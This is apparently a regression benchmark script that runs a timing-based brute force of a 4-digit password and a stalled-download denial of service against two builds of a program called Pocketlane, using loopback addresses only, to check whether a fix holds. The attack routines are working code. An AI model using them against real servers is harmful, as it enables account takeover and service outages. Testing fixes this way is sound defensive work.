#!/usr/bin/env python3
"""Two attacks on a running Pocketlane, measured against two builds side by side.

1. Password guessing by timing: a 4-digit site password is guessed over many
   connections at once, each closed when no answer came within 60 ms (taken
   for "wrong"). Printed: whether and when the password was found, how many
   guesses a second the attacker judged, and how many answers a second said
   right or wrong.
2. Download slots: 1,000 downloads of a large file from 127.0.0.1 that are
   never read, then a visitor on 127.0.0.2 asks for the same file every half
   second. Printed: how long the visitor was refused.

Usage: bench/guess_and_download_attacks.py BEFORE_EXECUTABLE AFTER_EXECUTABLE
Each program runs headless, offline, on a free loopback port, with its own
settings file and runtime folder in a temporary folder; only loopback
addresses are used.
"""

import asyncio
import os
import re
import resource
import socket
import subprocess
import sys
import tempfile
import time

PASSWORD = "7391"
GUESS_SECONDS = 30.0
# No answer within this time is taken for a wrong guess.
SILENCE_SECONDS = 0.06
GIVE_UP_SECONDS = 40.0
STALLED_DOWNLOADS = 1000
GUESSERS = 256


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


class Server:
    def __init__(self, executable, folder, settings):
        self.executable = executable
        self.folder = folder
        self.environment = dict(os.environ, XDG_RUNTIME_DIR=folder, QT_QPA_PLATFORM="offscreen",
                                ASAN_OPTIONS="detect_leaks=0")
        self.settings_file = os.path.join(folder, "settings.reg")
        self.port = free_port()
        arguments = []
        for name, value in settings:
            arguments += ["--set", f"{name}={value}"]
        self.admin(arguments)

    def admin(self, arguments):
        subprocess.run([self.executable, "--settings", self.settings_file] + arguments,
                       env=self.environment, check=True, capture_output=True)

    def __enter__(self):
        self.process = subprocess.Popen(
            [self.executable, "--headless", "--offline", "--port", str(self.port), "--settings",
             self.settings_file], env=self.environment, stderr=subprocess.DEVNULL)
        for _ in range(200):
            try:
                socket.create_connection(("127.0.0.1", self.port), 0.1).close()
                return self
            except OSError:
                time.sleep(0.05)
        raise RuntimeError("the server did not start")

    def __exit__(self, *_):
        self.process.terminate()
        self.process.wait(10)


def request(path):
    return f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()


async def fetch(port, path, source="127.0.0.1", timeout=10.0, whole=True):
    """The answer (its start only, unless whole); empty when none came in time."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
    writer.write(request(path))
    try:
        return await asyncio.wait_for(reader.read(-1 if whole else 4096), timeout)
    except asyncio.TimeoutError:
        return b""
    finally:
        writer.close()


async def guess_by_timing(port):
    """The attacker of the report: no answer within 60 ms means wrong."""
    candidates = iter(f"{n:04d}" for n in range(10000))
    judged = told = 0
    found_after = None
    start = time.monotonic()

    async def one_guesser():
        nonlocal judged, told, found_after
        while found_after is None and time.monotonic() - start < GUESS_SECONDS:
            candidate = next(candidates, None)
            if candidate is None:
                return
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.01)
                continue
            writer.write(request(f"/?P={candidate}"))
            try:
                answer = await asyncio.wait_for(reader.read(4096), SILENCE_SECONDS)
                if b'id="MainMenu"' in answer:
                    found_after = time.monotonic() - start
                told += b'id="MainMenu"' in answer or b"incorrect" in answer
            except asyncio.TimeoutError:
                pass  # taken for a wrong guess
            judged += 1
            writer.close()

    await asyncio.gather(*(one_guesser() for _ in range(GUESSERS)))
    elapsed = min(time.monotonic() - start, GUESS_SECONDS)
    return found_after, judged / elapsed, told / elapsed


async def link_of(port, path, title):
    deck = (await fetch(port, path)).decode("utf-8", "replace")
    match = re.search(r'href="([^"]+)"[^>]*>' + re.escape(title), deck, re.IGNORECASE)
    return match.group(1).replace("&amp;", "&") if match else None


async def file_link(port, share):
    shared = await link_of(port, "/", "Shared Folders")
    folder = await link_of(port, shared, share)
    details = await link_of(port, folder, "Big.mid")
    return await link_of(port, details, "Download File")


async def stalled_download(port, path, sockets):
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
    sock.send(request(path))
    sockets.append(sock)


async def honest_visitor_refused_for(port, path):
    start = time.monotonic()
    while time.monotonic() - start < GIVE_UP_SECONDS:
        answer = await fetch(port, path, source="127.0.0.2", timeout=2.0, whole=False)
        if b"audio/midi" in answer.split(b"\r\n\r\n")[0]:
            return time.monotonic() - start
        await asyncio.sleep(0.5)
    return None


async def download_attack(port, share):
    path = await file_link(port, share)
    sockets = []
    await asyncio.gather(*(stalled_download(port, path, sockets)
                           for _ in range(STALLED_DOWNLOADS)))
    await asyncio.sleep(1)  # every download asked for
    try:
        return await honest_visitor_refused_for(port, path)
    finally:
        for sock in sockets:
            sock.close()


def measure(executable):
    with tempfile.TemporaryDirectory() as folder:
        guessing = [("EnablePassword", "Y"), ("Password", PASSWORD), ("EnableGraffiti", "Y"),
                    ("WelcomeMessage", "N"), ("ShowWelcomeGraphic", "N")]
        with Server(executable, folder, guessing) as server:
            found_after, judged, told = asyncio.run(guess_by_timing(server.port))
    with tempfile.TemporaryDirectory() as folder:
        share = os.path.join(folder, "music")
        os.mkdir(share)
        with open(os.path.join(share, "big.mid"), "wb") as big:
            big.truncate(256 * 1024 * 1024)
        downloading = [("EnableSharedFolders", "Y"), ("WelcomeMessage", "N"),
                       ("ShowWelcomeGraphic", "N")]
        server = Server(executable, folder, downloading)
        server.admin(["--share", share])
        with server:
            refused_for = asyncio.run(download_attack(server.port, share))
    return found_after, judged, told, refused_for


def shown_seconds(value, limit):
    return f"{value:.2f} s" if value is not None else f"not within {limit:.0f} s"


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    before, after = (measure(executable) for executable in sys.argv[1:3])
    rows = [
        ("4-digit password found by timing", shown_seconds(before[0], GUESS_SECONDS),
         shown_seconds(after[0], GUESS_SECONDS)),
        ("guesses judged per second", f"{before[1]:.1f}", f"{after[1]:.1f}"),
        ("answers telling right/wrong per s", f"{before[2]:.1f}", f"{after[2]:.1f}"),
        ("honest download refused for", shown_seconds(before[3], GIVE_UP_SECONDS),
         shown_seconds(after[3], GIVE_UP_SECONDS)),
    ]
    print(f"{'':34} {'before':>20} {'after':>20}")
    for name, old, new in rows:
        print(f"{name:34} {old:>20} {new:>20}")


if __name__ == "__main__":
    main()
